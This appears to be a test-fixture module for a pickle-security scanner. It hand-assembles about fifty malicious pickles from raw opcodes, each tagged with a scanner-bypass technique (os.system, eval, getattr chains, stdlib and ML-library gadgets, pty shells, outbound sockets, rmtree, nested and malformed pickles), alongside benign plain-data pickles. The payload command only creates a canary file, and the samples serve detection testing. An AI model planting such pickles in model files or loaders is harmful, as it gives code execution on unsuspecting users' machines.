"""Hostile and benign pickles built from opcodes (standard library only).

Every malicious sample here is one public bypass class; none is ever loaded.
The shell command in the payloads only creates a canary file, so a scanner
that *did* execute one would leave visible evidence.
"""

from __future__ import annotations

import pickle
import struct
from collections import OrderedDict

CANARY = "donjon-canary"


def _s(text: str) -> bytes:
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def _b(data: bytes) -> bytes:
    return (
        b"C" + bytes([len(data)]) + data
        if len(data) < 256
        else b"B" + struct.pack("<I", len(data)) + data
    )


def glob0(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def sglob(module: str, name: str) -> bytes:
    return _s(module) + _s(name) + b"\x93"


def p2(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def p4(body: bytes) -> bytes:
    return b"\x80\x04" + body + b"."


def call(target: bytes, *args: str) -> bytes:
    return target + b"(" + b"".join(_s(a) for a in args) + b"tR"


def shell(marker: str = CANARY) -> str:
    return f"touch {marker}"  # relative: the canary lands in the working folder


def malicious_pickles() -> dict[str, tuple[str, bytes]]:
    """name -> (technique family, pickle bytes)."""
    cmd = shell()
    inner = p2(call(glob0("os", "system"), cmd))
    samples: dict[str, tuple[str, bytes]] = {
        "os_system_p0.pkl": ("direct", f"cos\nsystem\n(V{cmd}\ntR.".encode()),
        "os_system_p2.pkl": ("direct", p2(call(glob0("os", "system"), cmd))),
        "posix_system_p4.pkl": ("direct", p4(call(sglob("posix", "system"), cmd))),
        "subprocess_popen.pkl": (
            "direct",
            p2(glob0("subprocess", "Popen") + b"(" + _s("sh") + _s("-c") + _s(cmd) + b"l\x85R"),
        ),
        "builtins_eval.pkl": (
            "direct",
            p2(call(glob0("builtins", "eval"), f"__import__('os').system('{cmd}')")),
        ),
        "py2_builtin_exec.pkl": (
            "direct",
            f"c__builtin__\nexec\n(Vimport os; os.system('{cmd}')\ntR.".encode(),
        ),
        "getattr_chain.pkl": (
            "getattr/dotted",
            p2(
                glob0("builtins", "getattr")
                + b"("
                + call(glob0("importlib", "import_module"), "os")
                + _s("system")
                + b"tR("
                + _s(cmd)
                + b"tR"
            ),
        ),
        "importlib_import_module.pkl": (
            "stdlib gadget",
            p2(call(glob0("importlib", "import_module"), "os")),
        ),
        "operator_attrgetter.pkl": (
            "stdlib gadget",
            p2(call(glob0("operator", "attrgetter"), "system")),
        ),
        "operator_methodcaller.pkl": (
            "stdlib gadget",
            p2(call(glob0("operator", "methodcaller"), "system", cmd)),
        ),
        "functools_partial.pkl": (
            "stdlib gadget",
            p2(glob0("functools", "partial") + b"(" + glob0("os", "system") + _s(cmd) + b"tR"),
        ),
        "runpy_run_module.pkl": ("stdlib gadget", p2(call(glob0("runpy", "run_module"), "x"))),
        "code_interact.pkl": ("stdlib gadget", p2(call(glob0("code", "interact"), "x"))),
        "pty_spawn.pkl": ("stdlib gadget", p2(call(glob0("pty", "spawn"), "/bin/sh"))),
        "socket_connect.pkl": (
            "stdlib gadget",
            p2(call(glob0("socket", "create_connection"), "203.0.113.1")),
        ),
        "shutil_rmtree.pkl": ("stdlib gadget", p2(call(glob0("shutil", "rmtree"), "victim-dir"))),
        "webbrowser_open.pkl": ("stdlib gadget", p2(call(glob0("webbrowser", "open"), "x"))),
        "mailcap_findmatch.pkl": (
            "stdlib gadget",
            p2(call(glob0("mailcap", "findmatch"), "x", f"text/plain; {cmd}")),
        ),
        "multiprocessing_spawnv.pkl": (
            "stdlib gadget",
            p2(call(glob0("multiprocessing.util", "spawnv_passfds"), "/bin/sh")),
        ),
        "timeit_timeit.pkl": ("stdlib gadget", p2(call(glob0("timeit", "timeit"), cmd))),
        "cprofile_run.pkl": ("stdlib gadget", p2(call(glob0("cProfile", "run"), cmd))),
        "pdb_run.pkl": ("stdlib gadget", p2(call(glob0("pdb", "run"), cmd))),
        "ctypes_cdll.pkl": ("stdlib gadget", p2(call(glob0("ctypes", "CDLL"), "libc.so.6"))),
        "marshal_loads.pkl": ("stdlib gadget", p2(call(glob0("marshal", "loads"), "x"))),
        "types_codetype.pkl": ("stdlib gadget", p2(call(glob0("types", "FunctionType"), "x"))),
        "pip_main.pkl": ("ml/tool gadget", p2(call(glob0("pip", "main"), "install"))),
        "pip_internal.pkl": ("ml/tool gadget", p2(call(glob0("pip._internal", "main"), "x"))),
        "torch_collect_env.pkl": (
            "ml/tool gadget",
            p2(call(glob0("torch.utils.collect_env", "run"), cmd)),
        ),
        "torch_hub_load.pkl": ("ml/tool gadget", p2(call(glob0("torch.hub", "load"), "a", "b"))),
        "torch_jit_load.pkl": ("ml/tool gadget", p2(call(glob0("torch.jit", "load"), "x"))),
        "numpy_testing_runstring.pkl": (
            "ml/tool gadget",
            p2(call(glob0("numpy.testing._private.utils", "runstring"), cmd)),
        ),
        "numpy_load.pkl": ("ml/tool gadget", p2(call(glob0("numpy", "load"), "x.npy"))),
        "pandas_read_csv.pkl": (
            "ml/tool gadget",
            p2(call(glob0("pandas", "read_csv"), "http://203.0.113.1/x")),
        ),
        "mlflow_entry_point.pkl": (
            "ml/tool gadget",
            p2(call(glob0("mlflow.projects.backend.local", "_run_entry_point"), cmd)),
        ),
        "numpy_builtins_dotted.pkl": (
            "getattr/dotted",
            p4(call(sglob("numpy", "__builtins__.eval"), "1")),
        ),
        "reexport_dotted.pkl": (
            "getattr/dotted",
            p4(call(sglob("torch.serialization", "os.system"), cmd)),
        ),
        "ufunc_reconstruct.pkl": (
            "getattr/dotted",
            p2(
                glob0("numpy.core", "_ufunc_reconstruct")
                + b"("
                + _s("os")
                + _s("system")
                + b"tR("
                + _s(cmd)
                + b"tR"
            ),
        ),
        "memo_built_name.pkl": (
            "memo-built name",
            p4(
                _s("os")
                + b"\x940"
                + _s("system")
                + b"\x940"  # store both names, pop them
                + b"h\x00h\x01\x93("
                + _s(cmd)
                + b"tR"  # fetch them back: STACK_GLOBAL
            ),
        ),
        "inst_no_reduce.pkl": ("INST/OBJ", f"(V{cmd}\nios\nsystem\n.".encode()),
        "obj_no_reduce.pkl": ("INST/OBJ", p2(b"(" + glob0("os", "system") + _s(cmd) + b"o")),
        "newobj_popen.pkl": (
            "INST/OBJ",
            p2(glob0("subprocess", "Popen") + b"(" + _s(cmd) + b"t\x81"),
        ),
        "nested_loads.pkl": (
            "nested pickle",
            p2(glob0("pickle", "loads") + b"(" + _b(inner) + b"tR"),
        ),
        "nested_unknown_loader.pkl": (
            "nested pickle",
            p2(glob0("mylib.io", "restore") + b"(" + _b(inner) + b"tR"),
        ),
        "unknown_callable.pkl": ("unknown callable", p2(call(glob0("evilpkg.tools", "run"), cmd))),
        "truncated_after_reduce.pkl": ("malformed", p2(call(glob0("os", "system"), cmd))[:-1]),
        "junk_after_payload.pkl": (
            "malformed",
            b"\x80\x02" + call(glob0("os", "system"), cmd) + b"\xff\xfe garbage",
        ),
        "payload_after_junk.pkl": (
            "malformed",
            b"\x80\x02" + _s("x") + b"\xff" + glob0("os", "system") + b"(" + _s(cmd) + b"tR.",
        ),
        "second_pickle.pkl": ("multiple pickles", p2(b"}") + p2(call(glob0("os", "system"), cmd))),
        "build_dunder_state.pkl": (
            "BUILD state",
            p2(glob0("collections", "OrderedDict") + b")R}" + _s("__reduce__") + b"Ns" + b"b"),
        ),
        "ext_opcode.pkl": ("INST/OBJ", p2(b"\x82\x01(" + _s(cmd) + b"tR")),
        "stack_global_computed.pkl": (
            "memo-built name",
            p4(call(glob0("builtins", "str"), "os") + _s("system") + b"\x93(" + _s(cmd) + b"tR"),
        ),
    }
    return samples


def benign_pickles() -> dict[str, bytes]:
    """Pickles of plain data, at every protocol."""
    out: dict[str, bytes] = {}
    data = {
        "weights": [0.5, -1.25, 3.0],
        "config": OrderedDict(layers=3, act="relu"),
        "blob": b"\x00\x01",
        "nested": {"t": (1, 2), "s": {1, 2}, "f": frozenset({3})},
    }
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        out[f"plain_p{protocol}.pkl"] = pickle.dumps(data, protocol=protocol)
    return out
